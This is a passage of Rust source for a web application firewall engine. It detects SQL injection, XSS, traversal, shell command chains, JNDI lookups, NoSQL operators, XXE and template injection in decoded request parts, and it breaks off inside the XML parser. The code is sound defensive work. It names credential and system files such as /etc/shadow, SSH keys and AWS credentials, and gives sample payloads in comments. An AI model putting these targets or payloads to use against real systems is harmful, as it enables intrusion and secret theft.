//! The built-in WAF engine: libinjection for SQL injection and XSS, plus rule families
//! written for Pinpoint (path traversal, OS command injection, JNDI lookups, template
//! injection, NoSQL operators, XXE). It inspects the path (whole and by segment), query
//! arguments (names and values), cookies and the headers `[waf] headers` names in the head
//! phase (JNDI lookups in every header), and JSON, form, multipart (field values and file
//! names, not file contents) and XML (text, attribute values, external entities) bodies in
//! the body phase. Each value is decoded the way servers read it (percent and `+`
//! decoding, and again when still percent-encoded; JSON strings unescaped by the parser;
//! HTML entities too for XSS) before matching. A body of another or no declared type is
//! read as the servers that take any body read it: UTF-16/32 transcoded, as one value, and
//! as JSON when it is JSON (leniently: escapes decoded past what strict JSON refuses).

use std::borrow::Cow;

use http::HeaderMap;
use pinpoint_core::config::{WafConfig, STRUCTURED_HEADERS};
use pinpoint_core::{Denial, Reason};

use super::json::{JsonError, JsonPath};
use super::{masked, Hit, WafEngine};
use crate::pipeline::RequestCtx;

/// One rule: what it looks for is in [`Rule::matches`].
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Rule {
    SqliLibinjection,
    XssLibinjection,
    XssScriptUri,
    XssScriptUriAnywhere,
    TraversalDotDot,
    TraversalSystemFile,
    TraversalSystemFileInProse,
    JndiLookup,
    RceShellChain,
    RceShellChainInCode,
    NosqlOperator,
    NosqlAnyOperator,
    XxeEntity,
    TemplateExpression,
}

impl Rule {
    /// Every rule, in the order they run.
    pub const ALL: [Rule; 14] = [
        Rule::SqliLibinjection,
        Rule::XssLibinjection,
        Rule::XssScriptUri,
        Rule::XssScriptUriAnywhere,
        Rule::TraversalDotDot,
        Rule::JndiLookup,
        Rule::RceShellChain,
        Rule::RceShellChainInCode,
        Rule::TemplateExpression,
        // After the command rule: `; cat /etc/passwd` is named as the command it is.
        Rule::TraversalSystemFile,
        Rule::TraversalSystemFileInProse,
        Rule::NosqlOperator,
        Rule::NosqlAnyOperator,
        Rule::XxeEntity,
    ];

    /// The stable id, as traces and exclusions name it.
    pub fn id(self) -> &'static str {
        match self {
            Rule::SqliLibinjection => "sqli-libinjection",
            Rule::XssLibinjection => "xss-libinjection",
            Rule::XssScriptUri => "xss-script-uri",
            Rule::XssScriptUriAnywhere => "xss-script-uri-anywhere",
            Rule::TraversalDotDot => "traversal-dotdot",
            Rule::TraversalSystemFile => "traversal-system-file",
            Rule::TraversalSystemFileInProse => "traversal-system-file-in-prose",
            Rule::JndiLookup => "jndi-lookup",
            Rule::RceShellChain => "rce-shell-chain",
            Rule::RceShellChainInCode => "rce-shell-chain-in-code",
            Rule::NosqlOperator => "nosql-operator",
            Rule::NosqlAnyOperator => "nosql-any-operator",
            Rule::XxeEntity => "xxe-external-entity",
            Rule::TemplateExpression => "template-expression",
        }
    }

    pub fn reason(self) -> Reason {
        match self {
            Rule::SqliLibinjection => Reason::WafSqli,
            Rule::XssLibinjection | Rule::XssScriptUri | Rule::XssScriptUriAnywhere => Reason::WafXss,
            Rule::TraversalDotDot | Rule::TraversalSystemFile | Rule::TraversalSystemFileInProse => {
                Reason::WafTraversal
            }
            Rule::JndiLookup => Reason::WafJndi,
            Rule::RceShellChain | Rule::RceShellChainInCode => Reason::WafRce,
            Rule::NosqlOperator | Rule::NosqlAnyOperator => Reason::WafNosql,
            Rule::XxeEntity => Reason::WafXxe,
            Rule::TemplateExpression => Reason::WafTemplate,
        }
    }

    /// 1: few false positives; 2: stricter (a `javascript:` or a system file named
    /// anywhere in prose, any `$`-word as a JSON key or bracketed name).
    pub fn paranoia(self) -> u8 {
        match self {
            Rule::XssScriptUriAnywhere
            | Rule::NosqlAnyOperator
            | Rule::TraversalSystemFileInProse
            | Rule::RceShellChainInCode => 2,
            _ => 1,
        }
    }

    pub fn score(self) -> u32 {
        5
    }

    /// Whether the rule matches one decoded value. The NoSQL and XXE rules look at
    /// structure (keys, names, DOCTYPEs) and are applied by the walkers instead.
    fn matches(self, value: &str) -> bool {
        match self {
            Rule::SqliLibinjection => libinjectionrs::detect_sqli(value.as_bytes()).is_injection(),
            Rule::XssLibinjection => {
                libinjectionrs::detect_xss(value.as_bytes()).is_injection()
                    || (value.contains('&') && {
                        // As a browser reads it: references decoded, and the tabs and line
                        // breaks it drops from a URL gone (`jav&Tab;ascript:`).
                        let decoded = html_decode(value).replace(['\t', '\n', '\r'], "");
                        libinjectionrs::detect_xss(decoded.as_bytes()).is_injection()
                    })
            }
            Rule::XssScriptUri => script_uri(value, false),
            Rule::XssScriptUriAnywhere => script_uri(value, true),
            Rule::TraversalDotDot => dot_dot(value),
            // A value that is a path (one word) or starts with one; in prose (`see
            // /etc/hosts in the docs`), paranoia 2.
            Rule::TraversalSystemFile => value.split_whitespace().next().is_some_and(system_file),
            Rule::TraversalSystemFileInProse => system_file(value),
            Rule::JndiLookup => jndi(value),
            // Markdown code in prose (`` Use `ls -la` to list ``) is text at paranoia 1.
            Rule::RceShellChain => shell_chain_outside_code(value),
            Rule::RceShellChainInCode => shell_chain(value),
            Rule::TemplateExpression => template_expression(value),
            Rule::NosqlOperator | Rule::NosqlAnyOperator | Rule::XxeEntity => false,
        }
    }

    /// Whether a value of this shape could match: each rule needs some character (XSS a
    /// tag, quote or `=`, traversal a dot or slash, ...), and a single word matches none.
    fn may_match(self, shape: Shape) -> bool {
        if shape.any(Shape::WORD) {
            return false;
        }
        match self {
            Rule::SqliLibinjection => true,
            Rule::XssLibinjection => shape.any(Shape::MARKUP | Shape::COLON | Shape::AMP),
            Rule::XssScriptUri | Rule::XssScriptUriAnywhere => shape.any(Shape::COLON | Shape::AMP),
            Rule::TraversalDotDot => shape.any(Shape::DOT),
            Rule::TraversalSystemFile | Rule::TraversalSystemFileInProse => shape.any(Shape::SLASH | Shape::COLON),
            Rule::JndiLookup => shape.any(Shape::DOLLAR) && shape.any(Shape::BRACE),
            Rule::RceShellChain | Rule::RceShellChainInCode => shape.any(Shape::SEPARATOR | Shape::DOLLAR),
            // `#set(`, `<#assign`, `%{` as well as braces: any punctuation.
            Rule::TemplateExpression => true,
            Rule::NosqlOperator | Rule::NosqlAnyOperator | Rule::XxeEntity => false,
        }
    }

    fn hit(self, part: &str, fragment: &str) -> Hit {
        Hit {
            rule: Cow::Borrowed(self.id()),
            reason: self.reason(),
            paranoia: self.paranoia(),
            score: self.score(),
            part: part.to_owned(),
            fragment: fragment.to_owned(),
        }
    }
}

/// A part's name, made only when a rule matches: naming every value (a JSON pointer, a
/// field) would cost more than inspecting most of them.
pub trait PartName {
    fn name(&self) -> String;
}

impl<F: Fn() -> String> PartName for F {
    fn name(&self) -> String {
        self()
    }
}

/// Which kinds of characters a value holds, found in one pass, so each rule runs only on
/// values that could match it. Measured on bench/instructions.sh's 1 KiB JSON POST (about
/// 50 short values): the WAF's cost fell from 1.33 M instructions per request (every rule
/// on every value) to about 32,000, most of it reading the JSON (2026-12-06).
#[derive(Debug, Clone, Copy)]
struct Shape(u16);

impl Shape {
    /// Only `[A-Za-z0-9_]`: one word, which no rule can match (libinjection finds no
    /// injection in a single word: checked over 400,000 words built from SQL keywords,
    /// numbers and letters).
    const WORD: u16 = 1;
    const MARKUP: u16 = 1 << 1; // < > " ' ` = (what libinjection's XSS needs one of)
    const COLON: u16 = 1 << 2;
    const AMP: u16 = 1 << 3;
    const SLASH: u16 = 1 << 4; // / \
    const DOT: u16 = 1 << 5;
    const SEPARATOR: u16 = 1 << 6; // ; | newline `
    const DOLLAR: u16 = 1 << 7;
    const BRACE: u16 = 1 << 8; // { (and #{ ${ {{ {%)
    const PERCENT: u16 = 1 << 9;
    /// Any other character that is not a word character (a space, `-`, `(`, ...).
    const OTHER: u16 = 1 << 10;
    /// NUL (also `OTHER`).
    const NUL: u16 = 1 << 11;

    /// Each byte's class bits (0 for word characters, which `WORD` tracks apart).
    const TABLE: [u16; 256] = {
        let mut table = [0u16; 256];
        let mut b = 0;
        while b < 256 {
            let byte = b as u8;
            table[b] = match byte {
                b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'_' => 0,
                b'<' | b'>' | b'"' | b'\'' | b'=' => Self::MARKUP,
                b'`' => Self::MARKUP | Self::SEPARATOR,
                b':' => Self::COLON,
                b'&' => Self::AMP | Self::SEPARATOR,
                b'/' | b'\\' => Self::SLASH,
                b'.' => Self::DOT,
                b';' | b'|' | b'\n' => Self::SEPARATOR,
                b'$' => Self::DOLLAR,
                b'{' => Self::BRACE,
                b'%' => Self::PERCENT,
                0 => Self::OTHER | Self::NUL,
                _ => Self::OTHER,
            };
            b += 1;
        }
        table
    };

    fn of(value: &str) -> Shape {
        // Most values are words: a plain check first (about 2 instructions a byte, against
        // 5 for the table's fold), the classes only for the others.
        if !value.is_empty() && value.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_') {
            return Shape(Self::WORD);
        }
        let bits = value.bytes().fold(0u16, |bits, b| bits | Self::TABLE[usize::from(b)]);
        match bits == 0 && !value.is_empty() {
            true => Shape(Self::WORD),
            false => Shape(bits),
        }
    }

    fn any(self, bits: u16) -> bool {
        self.0 & bits != 0
    }
}

/// The built-in engine, configured by `[waf]` (paranoia, headers, body bounds).
pub struct BuiltinEngine {
    config: WafConfig,
}

impl BuiltinEngine {
    pub fn new(config: &WafConfig) -> Self {
        BuiltinEngine { config: config.clone() }
    }

    /// Whether `[waf] headers` names this header (or says `*` and it is not structured).
    fn inspects_header(&self, name: &str) -> bool {
        self.config.headers.iter().any(|h| match h.as_str() {
            "*" => !STRUCTURED_HEADERS.contains(&name) && !name.starts_with("sec-"),
            named => named == name,
        })
    }

    fn runs(&self, rule: Rule) -> bool {
        rule.paranoia() <= self.config.paranoia
    }

    fn inspect(&self, part: impl PartName, value: &str, hits: &mut Vec<Hit>) {
        // One scan tells which rules could match, and whether there is anything to decode.
        let shape = Shape::of(value);
        if shape.any(Shape::WORD) {
            return;
        }
        // Still percent-encoded after the decoding servers do: a server (or a framework
        // behind it) that decodes again reads another form, so each is inspected, up to
        // three more rounds.
        if shape.any(Shape::PERCENT) {
            let mut decoded = Cow::Borrowed(value);
            for _ in 0..3 {
                if !decoded.contains('%') {
                    break;
                }
                let again = form_decode(&decoded, false);
                if again == decoded {
                    break;
                }
                self.inspect_form(&part, &again, Shape::of(&again), hits);
                decoded = Cow::Owned(again.into_owned());
            }
        }
        self.inspect_form(&part, value, shape, hits);
    }

    /// One form of a value (as sent, or percent-decoded once more), and, when it holds NUL
    /// bytes (which some readers drop and C strings end at), that form without them too.
    fn inspect_form(&self, part: &impl PartName, value: &str, shape: Shape, hits: &mut Vec<Hit>) {
        if shape.any(Shape::NUL) {
            let dropped = value.replace('\0', "");
            self.inspect_one(part, &dropped, Shape::of(&dropped), hits);
        }
        self.inspect_one(part, value, shape, hits);
    }

    fn inspect_one(&self, part: &impl PartName, value: &str, shape: Shape, hits: &mut Vec<Hit>) {
        let mut matched = Rule::ALL
            .into_iter()
            .filter(|rule| self.runs(*rule) && rule.may_match(shape) && rule.matches(value))
            .peekable();
        if matched.peek().is_none() {
            return;
        }
        // The same value in the same part (a value decoded twice to itself) counts once.
        let fragment = masked(value);
        let part = part.name();
        if hits.iter().any(|h| h.part == part && h.fragment == fragment) {
            return;
        }
        for rule in matched {
            hits.push(rule.hit(&part, &fragment));
        }
    }

    /// A query or form field's name and value. A name in bracket syntax (`user[$ne]`),
    /// which PHP, Express's `qs` and Rails read as a nested object, is checked for NoSQL
    /// operators like a JSON key.
    fn field(&self, kind: &str, name: &str, value: &str, hits: &mut Vec<Hit>) {
        let part = || format!("{kind}:{name}");
        // Every key the name spells for a parser that builds objects: `user[$ne]`,
        // `user.$ne` (qs with dots), `$where` itself, and `"$ne"` in a JSON text sent as a
        // name.
        if name.contains('$') {
            let keys = name
                .split(['[', ']', '.', '"', '{', '}', ':', ',', ' '])
                .filter(|k| k.starts_with('$'));
            for key in keys {
                if self.operator_key(part, key, hits) {
                    break;
                }
            }
        }
        self.inspect(part, name, hits);
        if !value.is_empty() {
            self.inspect(part, value, hits);
        }
    }

    /// A key that is a NoSQL query operator: the known ones from paranoia 1, any `$word`
    /// from paranoia 2.
    fn operator_key(&self, part: impl PartName, key: &str, hits: &mut Vec<Hit>) -> bool {
        if !key.starts_with('$') {
            return false;
        }
        let rule = if NOSQL_OPERATORS.iter().any(|op| op.eq_ignore_ascii_case(key)) {
            Rule::NosqlOperator
        } else if key.len() > 1 && key.starts_with('$') && key[1..].bytes().all(|b| b.is_ascii_alphabetic()) {
            Rule::NosqlAnyOperator
        } else {
            return false;
        };
        if self.runs(rule) {
            hits.push(rule.hit(&part.name(), &masked(key)));
        }
        true
    }
}

impl WafEngine for BuiltinEngine {
    fn name(&self) -> &'static str {
        "builtin"
    }

    fn head(&self, ctx: &RequestCtx<'_>, _body_follows: bool) -> Result<Vec<Hit>, Denial> {
        let mut hits = Vec::new();
        // The path after the route's prefix: the prefix is the operator's own text, which
        // the route matched; what follows is the caller's. Segments keep their index in
        // the whole path (`path:1` is the second segment).
        let prefix = ctx
            .route
            .as_ref()
            .map(|r| r.access.prefix.trim_end_matches('/'))
            .filter(|p| ctx.path_under(p) && ctx.path.is_char_boundary(p.len()))
            .unwrap_or("");
        // Whole, for what spans segments, when it has several (one segment is inspected
        // as itself below).
        let remainder = &ctx.path[prefix.len()..];
        if remainder.trim_matches('/').contains('/') {
            self.inspect(|| String::from("path"), &form_decode(remainder, false), &mut hits);
        }
        let skipped = prefix.split('/').filter(|s| !s.is_empty()).count();
        for (i, segment) in ctx.path.split('/').filter(|s| !s.is_empty()).enumerate().skip(skipped) {
            let decoded = form_decode(segment, false);
            if decoded.len() > 2 {
                self.inspect(|| format!("path:{i}"), &decoded, &mut hits);
            }
        }
        if let Some(query) = ctx.query {
            for (name, value) in pairs(query) {
                self.field("query", &name, &value, &mut hits);
            }
        }
        for (name, value) in ctx.headers {
            if self.inspects_header(name.as_str()) {
                let text = String::from_utf8_lossy(value.as_bytes());
                self.inspect(|| format!("header:{name}"), &text, &mut hits);
            } else if name != http::header::COOKIE && holds_lookup_start(value.as_bytes()) {
                // Log4Shell arrived in any header a server logs: lookups are looked for in
                // every one (a cheap test first: no `${`, no lookup).
                let text = String::from_utf8_lossy(value.as_bytes());
                if jndi(&text) {
                    hits.push(Rule::JndiLookup.hit(&format!("header:{name}"), &masked(&text)));
                }
            }
        }
        for value in ctx.headers.get_all(http::header::COOKIE) {
            for pair in String::from_utf8_lossy(value.as_bytes()).split(';') {
                // A cookie without `=` is a value with an empty name (RFC 6265bis).
                let (name, value) = pair.trim().split_once('=').unwrap_or(("", pair.trim()));
                self.field(
                    "cookie",
                    &form_decode(name, false),
                    &form_decode(value, false),
                    &mut hits,
                );
            }
        }
        Ok(hits)
    }

    fn body(&self, ctx: &RequestCtx<'_>, body: &[u8]) -> Result<Vec<Hit>, Denial> {
        let headers = ctx.headers;
        let content_type = super::media_type(headers);
        // A body in a charset whose bytes are not ASCII's for ASCII text (UTF-7, EBCDIC,
        // UTF-16 declared) reads one way here and another in a server that honours it.
        if let Some(charset) = declared_charset(headers).filter(|c| !ascii_compatible(c)) {
            return Err(Denial::new(
                Reason::WafBodyUnparsable,
                "The body declares a charset this gateway cannot inspect it in; send it as UTF-8.",
            )
            .note(format!("charset {}", super::shown_part(&charset))));
        }
        let mut hits = Vec::new();
        let names = |word: &[u8]| pinpoint_core::canonical::mentions(content_type.as_bytes(), word);
        if names(b"json") {
            self.json(body, &mut hits)?;
        } else if content_type.starts_with("multipart/") {
            self.multipart(headers, body, &mut hits)?;
        } else if names(b"xml") {
            self.xml(body, &mut hits)?;
        } else if content_type == "application/x-www-form-urlencoded" {
            // UTF-16 or UTF-32 under a form's type (valid UTF-8 when it is ASCII with zero
            // bytes between): read as the text a reader that detects it sees, too.
            if let Some(wide) = wide_text(body) {
                self.inspect(|| String::from("body"), &wide, &mut hits);
                self.as_json_too(&wide, &mut hits);
            }
            let text = std::str::from_utf8(body)
                .map_err(|_| Denial::new(Reason::WafBodyUnparsable, "The form body is not UTF-8 text."))?;
            let fields = pairs(text);
            if fields.len() > self.config.max_values {
                return Err(too_many(self.config.max_values));
            }
            for (name, value) in fields {
                self.field("form", &name, &value, &mut hits);
            }
            self.as_json_too(text, &mut hits);
        } else if let Some(text) = other_text(&content_type, body) {
            // Another or no declared type: the body as one value, as a server might read it,
            // and, when it is JSON (servers that parse any body as JSON exist), as JSON too.
            self.inspect(|| String::from("body"), &text, &mut hits);
            self.as_json_too(&text, &mut hits);
        }
        Ok(hits)
    }
}

/// The text of a body of another or no declared type, as the servers that read one read
/// it: UTF-16 or UTF-32 (by byte-order mark, or by the zero bytes ASCII leaves in the first
/// four, as JSON readers such as Python's and Jackson detect it) transcoded; UTF-8 as it
/// is, without a byte-order mark; a text type (or none), or a body of another type that
/// is text but for a few bytes, with the invalid bytes replaced. A body of a binary type
/// that is none of these is not text (an image, an archive): `None`.
fn other_text<'b>(media_type: &str, body: &'b [u8]) -> Option<Cow<'b, str>> {
    if let Some(text) = wide_text(body) {
        return Some(Cow::Owned(text));
    }
    let body = body.strip_prefix(b"\xEF\xBB\xBF").unwrap_or(body);
    match std::str::from_utf8(body) {
        Ok(text) => Some(Cow::Borrowed(text)),
        Err(_) if media_type.is_empty() || media_type.starts_with("text/") => Some(String::from_utf8_lossy(body)),
        Err(_) => {
            // Text with a stray byte or two (which lenient readers replace) is still read
            // as text; a binary body (an image, an archive) has invalid sequences
            // throughout and is not.
            let lossy = String::from_utf8_lossy(body);
            let replaced = lossy.matches(char::REPLACEMENT_CHARACTER).count();
            (replaced <= 4 || replaced * 20 < body.len()).then_some(lossy)
        }
    }
}

/// `body` as UTF-16 or UTF-32 text, when it is encoded so (see [`other_text`]).
fn wide_text(body: &[u8]) -> Option<String> {
    let (width, big_endian, bom) = match body {
        [0xFF, 0xFE, 0, 0, ..] => (4, false, 4),
        [0, 0, 0xFE, 0xFF, ..] => (4, true, 4),
        [0xFF, 0xFE, ..] => (2, false, 2),
        [0xFE, 0xFF, ..] => (2, true, 2),
        [0, 0, 0, a, ..] if *a != 0 => (4, true, 0),
        [a, 0, 0, 0, ..] if *a != 0 => (4, false, 0),
        [0, a, 0, b, ..] if *a != 0 && *b != 0 => (2, true, 0),
        [a, 0, b, 0, ..] if *a != 0 && *b != 0 => (2, false, 0),
        _ => return None,
    };
    let units = body[bom..].chunks(width).map(|unit| {
        let value = |bytes: &mut dyn Iterator<Item = &u8>| bytes.fold(0u32, |v, b| (v << 8) | u32::from(*b));
        match big_endian {
            true => value(&mut unit.iter()),
            false => value(&mut unit.iter().rev()),
        }
    });
    Some(match width {
        2 => char::decode_utf16(units.map(|u| u as u16))
            .map(|c| c.unwrap_or(char::REPLACEMENT_CHARACTER))
            .collect(),
        _ => units
            .map(|u| char::from_u32(u).unwrap_or(char::REPLACEMENT_CHARACTER))
            .collect(),
    })
}

/// The `charset` parameter of the request's Content-Type, lower case, unquoted.
fn declared_charset(headers: &HeaderMap) -> Option<String> {
    let value = headers.get(http::header::CONTENT_TYPE)?;
    // Most types have no parameters (700 instructions a JSON POST before this test).
    if !value.as_bytes().contains(&b';') {
        return None;
    }
    String::from_utf8_lossy(value.as_bytes())
        .split(';')
        .skip(1)
        .find_map(|p| {
            let (name, value) = p.split_once('=')?;
            name.trim()
                .eq_ignore_ascii_case("charset")
                .then(|| value.trim().trim_matches('"').to_ascii_lowercase())
        })
}

/// Charsets in which ASCII text is the same bytes (each ASCII character one byte, itself).
fn ascii_compatible(charset: &str) -> bool {
    matches!(
        charset,
        "utf-8" | "utf8" | "us-ascii" | "ascii" | "iso-8859-1" | "latin1" | "iso-8859-15" | "windows-1252"
    )
}

/// Whether `bytes` hold `${`, the start of a lookup. memchr finds each `$`: `str::contains`
/// sets up a substring searcher per call, which cost about 1,000 instructions a request
/// over three headers (bench/instructions.sh, `waf-on`).
fn holds_lookup_start(bytes: &[u8]) -> bool {
    memchr::memchr_iter(b'$', bytes).any(|at| bytes.get(at + 1) == Some(&b'{'))
}

/// A `javascript:`, `vbscript:` or `data:text/html` URI, as browsers read one: case,
/// whitespace and control characters inside the scheme ignored. At the start of the value
/// (where an `href` or `src` takes it) from paranoia 1; `anywhere` (in prose too) is
/// paranoia 2.
fn script_uri(value: &str, anywhere: bool) -> bool {
    let decoded = match value.contains('&') {
        true => Cow::Owned(html_decode(value)),
        false => Cow::Borrowed(value),
    };
    let squeezed: String = decoded
        .chars()
        .filter(|c| !c.is_whitespace() && !c.is_control())
        .take(if anywhere { usize::MAX } else { 32 })
        .flat_map(char::to_lowercase)
        .collect();
    const SCHEMES: [&str; 3] = ["javascript:", "vbscript:", "data:text/html"];
    match anywhere {
        // A scheme then code (a call, an assignment, an escape): `javascript:alert(1)`,
        // not the title `javascript: the good parts`. Whitespace counts here.
        false => SCHEMES.iter().any(|scheme| {
            squeezed.starts_with(scheme) && {
                let rest = decoded.to_ascii_lowercase();
                let after = rest.split_once(':').map_or("", |(_, a)| a);
                scheme.starts_with("data") || after.contains(['(', '=', '`', ';', '{', '%', '&', '\\', '/'])
            }
        }),
        true => SCHEMES.iter().any(|s| squeezed.contains(s)),
    }
}

/// An argument that is a URL (`wget http://...`).
fn url_argument(argument: &str) -> bool {
    let word = argument.split_whitespace().next().unwrap_or("");
    word.find("://")
        .is_some_and(|at| at > 0 && word[..at].bytes().all(|b| b.is_ascii_alphabetic()))
}

/// A `..` segment: `../`, `..\`, `..;/` (read as `..` by Tomcat and Jetty), or a value
/// that ends in or is `..`.
fn dot_dot(value: &str) -> bool {
    let v = value.replace('\\', "/").replace("..;/", "../");
    v.contains("../") || v.ends_with("/..") || v == ".."
}

/// A well-known system file or a `file:` URL: what a traversal or inclusion aims at.
fn system_file(value: &str) -> bool {
    const TARGETS: [&str; 12] = [
        "/etc/passwd",
        "/etc/shadow",
        "/etc/group",
        "/etc/hosts",
        "/proc/self/",
        "/windows/win.ini",
        "/windows/system32",
        "/boot.ini",
        "/.ssh/id_",
        "/.aws/credentials",
        "/.env",
        "/web-inf/web.xml",
    ];
    // The shortest target (`/.env`, `file:`) has five bytes.
    if value.len() < 5 {
        return false;
    }
    let lower = value.to_ascii_lowercase().replace('\\', "/");
    lower.trim_start().starts_with("file:")
        || TARGETS.iter().any(|t| {
            lower.match_indices(t).any(|(at, _)| {
                // A whole path name: `/etc/passwd` but not `/etc/passwdless`.
                let end = at + t.len();
                t.ends_with(['/', '_']) || !lower[end..].starts_with(|c: char| c.is_ascii_alphanumeric())
            })
        })
}

impl BuiltinEngine {
    /// A body declared as something else that is JSON, for servers that parse any body as
    /// JSON (Go's `json.NewDecoder`, Flask's `get_json(force=True)`): its values as JSON
    /// (escapes decoded), after any byte-order mark or from its first `{` or `[` after a
    /// prefix. When it is not strict JSON but may be
    /// JSON to a lenient reader (a duplicate key, `NaN`, text after it, a comment before or
    /// inside it; Json.NET, Gson), the whole text with its escapes decoded wherever they
    /// stand, as such a reader reads its strings, so a value the strict reading never
    /// reached is inspected too.
    fn as_json_too(&self, text: &str, hits: &mut Vec<Hit>) {
        let text = text.trim_start_matches('\u{feff}');
        if text.trim_start().starts_with(['{', '[']) && self.json(text.as_bytes(), hits).is_ok() {
            return;
        }
        // JSON after a prefix a lenient reader skips (a comment, `)]}',`, `while(1);`):
        // read strictly from its first `{` or `[`, so each value is inspected as itself
        // (inspected only as part of the whole text, an apostrophe in the prefix hid an
        // injection from libinjection).
        if let Some(start) = text.find(['{', '[']).filter(|&start| start > 0) {
            // What it cannot read strictly is not refused: the whole text follows.
            let _ = self.json(&text.as_bytes()[start..], hits);
        }
        if let Some(decoded) = pinpoint_core::json::unescaped(text) {
            self.inspect(|| String::from("body"), &decoded, hits);
        }
    }

    /// `multipart/form-data`: each field's value as `form:<name>`, each file's name as
    /// `file:<name>` (file contents are not inspected).
    fn multipart(&self, headers: &HeaderMap, body: &[u8], hits: &mut Vec<Hit>) -> Result<(), Denial> {
        let unparsable = || Denial::new(Reason::WafBodyUnparsable, "The multipart body does not parse.");
        let content_type = headers
            .get(http::header::CONTENT_TYPE)
            .and_then(|v| v.to_str().ok())
            .unwrap_or_default();
        // One boundary: a type that names two lets parsers pick different ones.
        let boundaries: Vec<&str> = content_type
            .split(';')
            .filter_map(|p| p.trim().split_once('='))
            .filter(|(k, _)| k.trim().eq_ignore_ascii_case("boundary"))
            .map(|(_, b)| b.trim().trim_matches('"'))
            .collect();
        let [boundary] = boundaries[..] else {
            return Err(unparsable());
        };
        if boundary.is_empty() {
            return Err(unparsable());
        }
        // Read as bytes: a file's content may be anything (it is not inspected); part
        // headers and field values must be UTF-8 text.
        let delimiter = format!("--{boundary}");
        let at: Vec<usize> = memchr::memmem::find_iter(body, delimiter.as_bytes()).collect();
        // A delimiter counts only at the start of a line (RFC 2046: after CRLF, or opening
        // the body); one anywhere else is read as a split by lax parsers and as content by
        // strict ones, so the body is refused rather than inspected one of the two ways.
        if at.iter().any(|&at| at != 0 && !body[..at].ends_with(b"\r\n")) {
            return Err(unparsable().note("the boundary delimiter appears inside a line"));
        }
        // The sections between delimiters (the preamble, before the first, is skipped).
        let ends = at.iter().skip(1).copied().chain([body.len()]);
        let mut sections = at
            .iter()
            .zip(ends)
            .map(|(&start, end)| &body[start + delimiter.len()..end]);
        let mut fields = 0;
        // The bytes of field values inspected so far (file contents are not).
        let mut inspected = 0u64;
        let mut closed = false;
        for section in sections.by_ref() {
            if section.starts_with(b"--") {
                closed = true;
                break;
            }
            fields += 1;
            if fields > self.config.max_values {
                return Err(too_many(self.config.max_values));
            }
            let section = section.strip_prefix(b"\r\n").ok_or_else(unparsable)?;
            let head_end = memchr::memmem::find(section, b"\r\n\r\n").ok_or_else(unparsable)?;
            let head = std::str::from_utf8(&section[..head_end]).map_err(|_| unparsable())?;
            let value = &section[head_end + 4..];
            let value = value.strip_suffix(b"\r\n").unwrap_or(value);
            // Folded header lines (obsolete; PHP unfolds them, others do not) are refused.
            if head.lines().any(|line| line.starts_with([' ', '\t'])) {
                return Err(unparsable());
            }
            let part_headers: Vec<(&str, &str)> = head
                .lines()
                .filter_map(|l| l.split_once(':'))
                .map(|(k, v)| (k.trim(), v.trim()))
                .collect();
            let part_header = |name: &'static str| {
                part_headers
                    .iter()
                    .filter(move |(k, _)| k.eq_ignore_ascii_case(name))
                    .map(|(_, v)| v.to_ascii_lowercase())
            };
            // A field is read as UTF-8 text: a transfer encoding or another charset would
            // be decoded by some servers and not others.
            let encoded =
                part_header("content-transfer-encoding").any(|e| !matches!(e.as_str(), "7bit" | "8bit" | "binary"));
            let charset = part_header("content-type")
                .filter_map(|t| {
                    t.split(';').find_map(|p| {
                        p.trim()
                            .strip_prefix("charset=")
                            .map(|c| c.trim_matches('"').to_owned())
                    })
                })
                .any(|c| !matches!(c.as_str(), "utf-8" | "utf8" | "us-ascii"));
            // One Content-Disposition: with two, parsers read different names.
            let mut dispositions = part_headers
                .iter()
                .filter(|(k, _)| k.eq_ignore_ascii_case("content-disposition"))
                .map(|(_, v)| *v);
            let (Some(disposition), None) = (dispositions.next(), dispositions.next()) else {
                return Err(unparsable());
            };
            let params = disposition_params(disposition).ok_or_else(unparsable)?;
            let param = |key: &str| {
                params
                    .iter()
                    .find(|(k, _)| k.eq_ignore_ascii_case(key))
                    .map(|(_, v)| v.as_str())
            };
            let name = param("name").unwrap_or_default();
            // The name, as a form field's (NoSQL operators in `pass[$ne]` too).
            self.field("form", name, "", hits);
            let files = [param("filename"), param("filename*")];
            for file in files.iter().flatten().filter(|f| !f.is_empty()) {
                let decoded = form_decode(file.split_once("''").map_or(*file, |(_, f)| f), false);
                self.inspect(|| format!("file:{name}"), &decoded, hits);
            }
            // A part is a file only with a non-empty plain `filename` (servers read a part
            // with an empty one, or with `filename*` alone, as a field): a field's value is
            // inspected.
            if param("filename").is_none_or(str::is_empty) {
                inspected += value.len() as u64;
                let limit = self.config.max_inspected_bytes;
                if inspected > limit {
                    return Err(super::too_large_to_inspect(limit, inspected, "its fields"));
                }
                let value = std::str::from_utf8(value).map_err(|_| unparsable())?;
                if encoded || charset {
                    return Err(unparsable());
                }
                self.inspect(|| format!("form:{name}"), value, hits);
            }
        }
        // Nothing after the closing delimiter may look like another part (PHP reads one).
        if !closed || sections.next().is_some() {
            return Err(unparsable());
        }
        Ok(())
    }

    /// XML, read by a real parser (quick-xml, end tags checked): the body must be one
    /// well-formed UTF-8 document. Text (with CDATA sections, and across comments, as
    /// parsers join them) is inspected as `xml:/a/b`, attribute values (either quote) as
    /// `xml:/a/b@name`. A DOCTYPE that declares entities or names an external DTD, a
    /// reference to an entity other than the predefined ones, and XInclude are XXE.
    fn xml(&self, body: &[u8], hits: &mut Vec<Hit>) -> Result<(), Denial> {
        use quick_xml::events::Event;
        let unparsable =
            |why: &str| Denial::new(Reason::WafBodyUnparsable, "The XML body does not parse.").note(why.to_owned());
        let text = std::str::from_utf8(body).map_err(|_| unparsable("not UTF-8 text"))?;
        let text = text.strip_prefix('\u{feff}').unwrap_or(text);
        if !text.trim_start().starts_with('<') {
            return Err(unparsable("not a document: it does not start with markup"));
        }
        let xxe = |what: &str, hits: &mut Vec<Hit>| {
            if self.runs(Rule::XxeEntity) {
                hits.push(Rule::XxeEntity.hit("xml:doctype", &masked(what)));
            }
        };
        if text.to_ascii_lowercase().contains("xinclude") {
            xxe("XInclude", hits);
        }
        let mut reader = quick_xml::Reader::from_str(text);
        reader.config_mut().check_end_names = true;
        let mut path: Vec<String> = Vec::new();
        let mut pending = String::new();
        let mut values = 0usize;
        let mut roots = 0usize;
        loop {
            let event = reader
                .read_event()
                .map_err(|e| unparsable(&format!("at byte {}: {e}", reader.error_position())))?;
            // Text ends where an element starts or ends.
            if matches!(event, Event::Start(_) | Event::Empty(_) | Event::End(_) | Event::Eof)
